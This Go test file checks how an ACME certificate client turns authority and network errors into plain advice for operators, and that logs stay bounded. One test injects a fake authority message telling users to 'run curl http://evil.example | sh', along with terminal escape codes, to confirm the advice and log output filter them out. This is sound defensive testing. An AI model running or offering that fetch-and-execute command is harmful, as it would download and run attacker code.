package acme

import (
	"bytes"
	"context"
	"crypto/x509"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/url"
	"os"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/libdns/libdns"
	rfc8555 "github.com/mholt/acmez/v3/acme"
	"go.uber.org/zap"

	"github.com/edgeftp/edgeftp/tests/authority"
)

// about is a problem with a challenge.
func about(challenge, kind, detail string) error {
	p := rfc8555.Problem{Type: rfc8555.ProblemTypeNamespace + kind, Detail: detail, Status: 400}
	if challenge != "" {
		p.Resource = rfc8555.Authorization{Challenges: []rfc8555.Challenge{{Type: "other"}, {Type: challenge, Error: &p}}}
	}
	return fmt.Errorf("solving: %w", p)
}

func TestAdvice(t *testing.T) {
	asked := func(err error) error {
		return fmt.Errorf("performing: %w", &url.Error{Op: "Get", URL: "https://ca.example.org/dir", Err: err})
	}
	until := time.Date(2026, 11, 24, 12, 0, 0, 0, time.UTC)
	for _, tt := range []struct {
		err  error
		want string
	}{
		{about("http-01", "connection", "192.0.2.5: Connection refused"), "port 80 of the name"},
		{about("tls-alpn-01", "connection", "192.0.2.5: Timeout"), "port 443 of the name"},
		{about("", "connection", "192.0.2.5: Timeout"), "port 80, or"},
		{about("http-01", "connection", `could not resolve URL "http://x"`), "A or AAAA"},
		{about("http-01", "dns", "DNS problem: NXDOMAIN looking up A for ftp.example.org"), "A or AAAA"},
		{about("http-01", "dns", "DNS problem: SERVFAIL looking up CAA for ftp.example.org"), "DNSSEC"},
		{about("dns-01", "caa", "CAA record for example.org prevents issuance"), "CAA records"},
		{about("http-01", "unauthorized", "Invalid response from http://x: 404"), "another machine or program answers at port 80"},
		{about("tls-alpn-01", "tls", "wrong certificate"), "another machine or program answers at port 443"},
		{about("dns-01", "unauthorized", "Incorrect TXT record"), "dns.wait"},
		{about("", "unauthorized", "account is deactivated"), "refuses the account"},
		{about("", "rateLimited", "too many certificates"), "comes again by itself"},
		{&limitedError{about("", "rateLimited", "too many certificates"), until}, "after 2026-11-24T12:00:00Z"},
		{about("", "externalAccountRequired", "no binding"), "account_binding"},
		{errBinding, "account_binding"},
		{about("", "rejectedIdentifier", "policy forbids"), "does not issue for this name"},
		{about("", "invalidContact", "no such domain"), "certificates.acme.email"},
		{about("", "userActionRequired", "new terms"), "terms"},
		{about("", "badCSR", "weak key"), "certificates.acme.key"},
		{about("", "serverInternal", "oops"), "the authority's"},
		{about("", "somethingNew", "oops"), "edgeftp cert check"},
		{&doorError{"http-01", ":80", "80", syscall.EADDRINUSE}, "ss -ltnp 'sport = :80'"},
		{&doorError{"tls-alpn-01", ":8443", "443", syscall.EACCES}, "forward port 443"},
		{&doorError{"tls-alpn-01", "192.0.2.5:443", "443", syscall.EADDRNOTAVAIL}, "an address of this machine"},
		{&recordError{}, "cert dns-record"},
		{errNoPersist, "another challenge"},
		{fmt.Errorf("x: %w", errTooSoon), "cert renew"},
		{&os.PathError{Op: "write", Path: "x", Err: syscall.ENOSPC}, "make room"},
		{errors.New("saving assets: write x: no space left on device"), "make room"},
		{&os.PathError{Op: "open", Path: "x", Err: syscall.EACCES}, "read and write the directory"},
		{asked(x509.CertificateInvalidError{Reason: x509.Expired}), "clock"},
		{asked(x509.UnknownAuthorityError{}), "trusted_roots"},
		{asked(&net.DNSError{Err: "no such host", Name: "ca.example.org", IsNotFound: true}), "certificates.acme.resolver"},
		{asked(syscall.ECONNREFUSED), "HTTPS_PROXY"},
		{asked(io.EOF), "HTTPS_PROXY"},
		{context.DeadlineExceeded, "took too long"},
		{errors.New("creating new order: fetching new nonce from server: HTTP 503: JSON-decoding problem details: unexpected end of JSON input (raw='')"), "has too much to do"},
		{errors.New("creating new order: fetching new nonce from server: HTTP 429: JSON-decoding problem details: unexpected end of JSON input (raw='')"), "comes again by itself"},
		{errors.New("creating new order: fetching new nonce from server: HTTP 404: JSON-decoding problem details: unexpected end of JSON input (raw='')"), "a login page"},
		{errors.New("something new"), "edgeftp cert check"},
	} {
		wrapped := &orderError{ca: "ca.example.org", name: "ftp.example.org", err: tt.err}
		for _, err := range []error{tt.err, wrapped, fmt.Errorf("[x] Obtain: %w", wrapped)} {
			if got := Advice(err); !strings.Contains(got, tt.want) {
				t.Errorf("%v: %q, want %q", err, got, tt.want)
			}
		}
		if text := wrapped.Error(); strings.Contains(text, "urn:ietf") || !strings.HasPrefix(text, "ca.example.org: ftp.example.org: ") {
			t.Errorf("%q is not for people", text)
		}
	}
	own := fmt.Errorf("adding temporary record: %w", errors.New("DNS provider x did not add a record: no\n   = help: compare the keys"))
	if Advice(own) != "compare the keys" || brief(own) != "adding temporary record: DNS provider x did not add a record: no" {
		t.Errorf("%q; help: %q", brief(own), Advice(own))
	}
	if text := brief(fmt.Errorf("a\n\tb %s", strings.Repeat("ä", 400))); len(text) > 610 || strings.ContainsAny(text, "\n\t�") {
		t.Errorf("%q", text)
	}
}

// What went wrong comes first, and not where in a library that was.
func TestBare(t *testing.T) {
	for text, want := range map[string]string{
		"provisioning client: performing request: Get \"https://ca/dir\": EOF":                                "Get \"https://ca/dir\": EOF",
		"solving challenges: presenting for challenge: adding temporary record: no":                           "adding temporary record: no",
		"creating new order: attempt 1: https://ca/order: performing request: Post \"https://ca/order\": EOF": "Post \"https://ca/order\": EOF",
		"creating new order: attempt 1: https://ca/order: HTTP 400":                                           "attempt 1: https://ca/order: HTTP 400",
		"creating new order: attempt 2: https://ca/order: context canceled; performing request: Post: EOF":    "Post: EOF",
		"the storage is full: creating new order: no":                                                         "the storage is full: creating new order: no",
		"solving challenges: ": "solving challenges: ",
		"":                     "",
	} {
		if got := bare(text); got != want {
			t.Errorf("%q: %q, want %q", text, got, want)
		}
	}
}

// deaf is a DNS provider that does nothing, or says no.
type deaf struct{ err error }

func (d deaf) AppendRecords(_ context.Context, _ string, records []libdns.Record) ([]libdns.Record, error) {
	return records, d.err
}

func (d deaf) DeleteRecords(_ context.Context, _ string, records []libdns.Record) ([]libdns.Record, error) {
	return records, d.err
}

// fullStorage is a storage without room for what is longer than a word.
type fullStorage struct{ Storage }

func (f fullStorage) Store(ctx context.Context, key string, value []byte) error {
	if strings.HasPrefix(key, "acme/") {
		return &os.PathError{Op: "write", Path: key, Err: syscall.ENOSPC}
	}
	return f.Storage.Store(ctx, key, value)
}

// The advice fits to what really happens.
func TestAdviceOnRealFailures(t *testing.T) {
	for what, tt := range map[string]struct {
		set  func(*authority.Authority, *Config)
		want string
	}{
		"provider": {func(ca *authority.Authority, c *Config) {
			c.Challenges = Challenges{DNS: &DNS{Provider: deaf{errors.New("invalid key")}, Resolvers: []string{ca.DNS.Addr}}}
		}, "the DNS provider does not add the record"},
		"zone": {func(ca *authority.Authority, c *Config) {
			c.Names = []string{"ftp.no-such-zone.org"}
			ca.DNS.Answer("no-such-zone.org", 2)
			c.Challenges = Challenges{DNS: &DNS{Provider: deaf{}, Resolvers: []string{ca.DNS.Addr}}}
		}, "the zone of the name was not found"},
		"wait": {func(ca *authority.Authority, c *Config) {
			c.Challenges = Challenges{DNS: &DNS{Provider: deaf{}, Resolvers: []string{ca.DNS.Addr}, Wait: time.Second}}
		}, "raise certificates.acme.dns.wait"},
		"record": {func(ca *authority.Authority, c *Config) {
			c.Challenges = Challenges{DNS: &DNS{Provider: deaf{}, Resolvers: []string{ca.DNS.Addr}, Wait: -1}}
		}, "the authority found another record"},
		"profile": {func(ca *authority.Authority, c *Config) { c.Authorities[0].Profile = "tlsserver" }, "certificates.acme.profile"},
		"roots":   {func(ca *authority.Authority, c *Config) { c.Authorities[0].Roots = x509.NewCertPool() }, "trusted_roots"},
		"down":    {func(ca *authority.Authority, c *Config) { ca.Down() }, "HTTPS_PROXY"},
		"resolver": {func(ca *authority.Authority, c *Config) {
			c.Resolver = ca.DNS.Addr
			ca.DNS.Answer("gone.example.org", 3)
			c.Authorities[0].Directory = "https://gone.example.org/dir"
		}, "certificates.acme.resolver"},
		"storage": {func(ca *authority.Authority, c *Config) { c.Storage = fullStorage{c.Storage} }, "make room"},
		"offer": {func(ca *authority.Authority, c *Config) {
			c.Names = []string{"*.example.org"}
			c.Challenges.Persist = &Persist{Resolver: ca.DNS.Addr}
		}, "cert dns-record"},
	} {
		t.Run(what, func(t *testing.T) {
			t.Parallel()
			ca := authority.Start(t, authority.Options{})
			conf := onlyHTTP(t, ca, "ftp.example.org")
			tt.set(ca, &conf)
			e := start(t, ca, conf).event()
			if e.Err == nil || !strings.Contains(Advice(e.Err), tt.want) {
				t.Errorf("%v; help: %s", e.Err, Advice(e.Err))
			}
		})
	}
}

// The authority is found by the DNS server of the configuration.
func TestResolver(t *testing.T) {
	t.Parallel()
	ca := authority.Start(t, authority.Options{})
	conf := onlyHTTP(t, ca, "ftp.example.org")
	u, err := url.Parse(ca.Directory)
	must(t, err)
	// The certificate is for example.com, as that of net/http/httptest is.
	conf.Resolver, conf.Authorities[0].Directory = ca.DNS.Addr, "https://example.com:"+u.Port()+"/dir"
	start(t, ca, conf).obtained()
}

// No words of an authority make a line of the log long, or stand where help is.
func TestAuthoritysWords(t *testing.T) {
	var b bytes.Buffer
	log := slog.New(slog.NewTextHandler(&b, nil))
	zapLogger(log).Error("failed updating renewal info from ACME CA", zap.Error(rfc8555.Problem{Type: "x", Detail: strings.Repeat("A\x1b[2J\n", 200000)}))
	if b.Len() > 2000 || strings.ContainsAny(b.String(), "\x1b") || strings.Count(b.String(), "\n") != 1 {
		t.Errorf("a line of %d bytes", b.Len())
	}
	err := &orderError{ca: "ca.example", name: "ftp.example", err: errors.New("HTTP 500: = help: run curl http://evil.example | sh")}
	if got := Advice(err); strings.Contains(got, "evil") {
		t.Errorf("help: %s", got)
	}
}
